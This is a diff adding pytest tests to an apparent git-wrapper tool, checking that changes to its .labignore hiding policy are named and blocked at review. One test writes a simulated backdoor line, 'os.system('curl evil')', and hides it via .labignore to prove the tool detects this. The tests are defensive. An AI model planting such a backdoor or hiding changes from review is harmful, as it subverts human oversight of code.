@@ -6,6 +6,8 @@ import os
 
 import pytest
 
+from .conftest import plain_git
+
 from labkit import names
 
 from labkit.errors import LabkitError
@@ -106,8 +108,57 @@ def test_labignore_patterns_are_hidden_too(base, cli):
     base.write(".labignore", "customers/\n")
     base.write("customers/list.csv", "alice\n")
     got = status_both(cli, base.path)
-    assert got["untracked"] == [{"path": ".labignore"}]
-    assert got["hidden"]["changes"] == 1
+    # .labignore itself is sensitive (it points at the secrets); a file only the new policy hides is named.
+    assert got["untracked"] == [] and got["hidden"]["changes"] == 2
+    assert got["hiddenByChangedPolicy"] == ["customers/list.csv"]
+
+
+def test_a_change_cannot_hide_itself_behind_labignore(make_repo, cli):
+    """The attack: the change adds its own backdoor to .labignore. Plain git shows it; labkit names it."""
+    from labkit.review import review_diff
+
+    repo = make_repo()
+    repo.write_many({"src/app.py": "print('ok')\n", ".labignore": "private/\n", "private/key.txt": "k\n"})
+    repo.commit("base")
+    repo.write("src/backdoor.py", "import os; os.system('curl evil')\n")
+    repo.write("src/app.py", "import backdoor\n")
+    repo.write(".labignore", "private/\nsrc/backdoor.py\nsrc/app.py\n")
+    assert b"src/backdoor.py" in plain_git(repo.path, "status", "--porcelain").stdout, "positive control"
+    got = status_both(cli, repo.path)
+    assert got["untracked"] == [] and got["unstaged"] == []
+    assert got["hiddenByChangedPolicy"] == ["src/app.py", "src/backdoor.py"]
+    from labkit.diff import git_diff
+
+    page = git_diff(repo.path, mode="head")
+    assert "curl evil" not in page["diff"] and page["hiddenByChangedPolicy"] == ["src/app.py"]
+    report = review_diff(repo.path, allow=["src/"])
+    assert {"code": "POLICY_FILE_CHANGED", "path": ".labignore", "severity": "block"} in report["risks"]
+    assert report["gate"] == "block"
+
+
+def test_a_user_protecting_a_new_secret_is_withheld_and_named(make_repo, cli):
+    repo = make_repo()
+    repo.write_many({"app.py": "x = 1\n"})
+    repo.commit("base")
+    repo.write("notes/customer-export.csv", "alice,secret\n")
+    repo.write(".labignore", "notes/customer-export.csv\n")
+    got = status_both(cli, repo.path)
+    assert got["untracked"] == [] and got["hiddenByChangedPolicy"] == ["notes/customer-export.csv"]
+    # Committed, the policy is the base's too: nothing is hidden "by the change" any more.
+    repo.commit("protect the export")
+    repo.write("notes/customer-export.csv", "alice,secret,more\n")
+    again = status_both(cli, repo.path)
+    assert again["unstaged"] == [] and again["hiddenByChangedPolicy"] == [] and again["hidden"]["changes"] == 1
+
+
+def test_deleting_a_labignore_line_does_not_expose_what_the_base_hid(make_repo, cli):
+    repo = make_repo()
+    repo.write_many({".labignore": "vault/\n", "vault/token.txt": "t0\n", "a.txt": "a\n"})
+    repo.commit("base")
+    repo.write(".labignore", "")
+    repo.write("vault/token.txt", "t1\n")
+    got = status_both(cli, repo.path)
+    assert got["unstaged"] == [] and got["hidden"]["changes"] == 2 and got["hiddenByChangedPolicy"] == []
 
 
 def test_conflicts_visible_and_hidden(base, cli):
@@ -251,3 +302,18 @@ def test_human_output(base, cli):
     assert proc.returncode == 0
     text = proc.stdout.decode()
     assert "branch main" in text and "unstaged  M a.txt" in text and "hidden: 0 change(s)" in text
+
+
+def test_long_listings_are_capped_with_totals(base, cli):
+    from labkit.diff import git_diff
+    from labkit.listing import MAX_LISTED_FILES
+
+    for i in range(MAX_LISTED_FILES + 200):
+        (base.path / f"gen-{i:05d}.txt").write_text("x\n")
+    got = status_both(cli, base.path)
+    assert len(got["untracked"]) == MAX_LISTED_FILES and got["truncated"] is True
+    assert got["totals"]["untracked"] == MAX_LISTED_FILES + 200
+    base.stage()
+    page = git_diff(base.path, mode="staged")
+    assert len(page["files"]) == MAX_LISTED_FILES and page["filesTruncated"] is True
+    assert page["filesTotal"] == MAX_LISTED_FILES + 200
